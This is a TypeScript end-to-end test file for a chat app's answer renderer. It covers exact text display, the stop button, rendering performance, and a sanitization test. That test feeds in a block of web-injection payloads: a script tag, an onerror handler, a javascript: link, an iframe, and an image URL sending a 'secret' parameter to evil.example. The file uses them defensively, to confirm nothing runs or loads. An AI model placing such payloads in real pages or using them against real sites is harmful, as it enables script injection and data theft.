import { afterAll, beforeAll, expect, it } from "vitest";
import { ANSWER } from "../../src/platform/fake/fake-content";
import { id, openPage, openSession, openStage, say, sessionId, type Stage } from "./page";

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
});
afterAll(() => stage.close());

const HOSTILE = `<script>window.hacked = 1</script>

<img src="https://evil.example/a.png" onerror="window.hacked = 2">

![a picture](https://evil.example/b.png?secret=1)

[click](javascript:window.hacked=3) and [this](http://evil.example/c) and [that](https://evil.example/d)

<iframe src="https://evil.example/e"></iframe>
`;

type Fake = { __batonFake: { sessions: { id: string; script: string | undefined }[]; asLaptop(session: string, body: unknown): void } };

async function ask(page: Awaited<ReturnType<typeof openPage>>["page"], script: string): Promise<void> {
  await openSession(page, 6);
  await page.evaluate(
    ([session, text]) => {
      const fake = (window as unknown as Fake).__batonFake;
      const found = fake.sessions.find((each) => each.id === session);
      if (found) found.script = text;
      fake.asLaptop(session ?? "", { type: "sendPrompt", text: "Go on.", delivery: "queue" });
    },
    [sessionId(6), script] as const,
  );
}

it("shows an answer's exact text, however it came, and says when it is whole", async () => {
  const { page, faults } = await openPage(stage);
  await openSession(page, 1);
  await say(page, 400);
  for (let round = 0; round < 25; round += 1) await say(page, 83);
  await page.waitForSelector('article[data-row-kind="text"][data-state="complete"]');
  const texts = await page.evaluate(
    () => window.__batonInspect?.().open?.rows.flatMap((row) => (row.body.type === "text" ? [row.body.text] : [])) ?? [],
  );
  expect(texts).toContain(ANSWER);
  expect(await page.locator(`article[data-length="${ANSWER.length}"]`).count()).toBe(1);
  await page.waitForSelector(".code-token");
  expect(faults).toEqual([]);
  await page.close();
});

it("loads nothing, runs nothing and opens nothing that an answer names", async () => {
  const { page, foreign, faults } = await openPage(stage);
  await ask(page, HOSTILE);
  await say(page, 400);
  for (let round = 0; round < 12; round += 1) await say(page, 40);
  await page.waitForSelector(id("image-placeholder"));
  const seen = await page.evaluate(() => ({
    hacked: (window as unknown as { hacked?: number }).hacked,
    frames: document.querySelectorAll("article iframe, article img, article script").length,
    links: [...document.querySelectorAll("article a")].map((link) => link.getAttribute("href")),
  }));
  expect(seen.hacked).toBeUndefined();
  expect(seen.frames).toBe(0);
  expect(seen.links.every((link) => link?.startsWith("https://") === true)).toBe(true);
  expect(foreign).toEqual([]);
  expect(faults).toEqual([]);

  await page.click('a[href="https://evil.example/d"]');
  expect(await page.textContent(id("link-url"))).toBe("https://evil.example/d");
  expect(foreign).toEqual([]);
  await page.close();
});

it("says Stopping in the frame of the press, and who stopped it when the log has it", async () => {
  const { page } = await openPage(stage, "phase=live");
  await openSession(page, 1);
  await say(page, 400);
  await say(page, 200);
  const inTheSameTask = await page.evaluate(async () => {
    const button = document.querySelector<HTMLElement>('[data-testid="stop"]');
    button?.click();
    await new Promise((done) => queueMicrotask(() => done(undefined)));
    return document.querySelector('[data-testid="stop"]')?.getAttribute("data-state");
  });
  expect(inTheSameTask).toBe("sending");
  await page.waitForSelector('article[data-row-kind="runEnd"][data-state="stopped"]');
  expect(await page.textContent('article[data-state="stopped"]')).toContain("Stopped by this device");
  expect(await page.getAttribute(id("queue"), "data-state")).toBe("paused");
  await page.close();
});

it("costs the main thread in proportion to the text, without a task that a person would feel", async () => {
  const paragraph = ANSWER.slice(0, 2000);
  const cost = async (kilobytes: number) => {
    const { page } = await openPage(stage);
    await ask(page, paragraph.repeat(kilobytes / 2));
    await say(page, 400);
    const metrics = await page.context().newCDPSession(page);
    // The thread's own time, not the time in which a busy machine let it wait.
    await metrics.send("Performance.enable", { timeDomain: "threadTicks" });
    const taskMs = async () => {
      const { metrics: all } = await metrics.send("Performance.getMetrics");
      return (all.find((each) => each.name === "TaskDuration")?.value ?? 0) * 1000;
    };
    const before = await taskMs();
    const longestMs = await page.evaluate(async (updates) => {
      const fake = (window as unknown as { __batonFake: { tick(count: number): void } }).__batonFake;
      let longest = 0;
      const observer = new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) longest = Math.max(longest, entry.duration);
      });
      observer.observe({ type: "longtask" });
      for (let update = 0; update < updates; update += 1) {
        fake.tick(26);
        await new Promise((done) => setTimeout(done, 17));
      }
      observer.disconnect();
      return longest;
    }, Math.ceil((kilobytes * 1000) / 26));
    const totalMs = (await taskMs()) - before;
    await page.close();
    return { kilobytes, totalMs: Math.round(totalMs), longestMs: Math.round(longestMs) };
  };
  const small = await cost(8);
  const large = await cost(16);
  console.log(JSON.stringify([small, large]));
  // Twice the text, twice the work; the margin is for a shared machine, a square would be four times.
  expect(large.totalMs / small.totalMs).toBeLessThan(3);
  expect(large.longestMs).toBeLessThan(500);
});
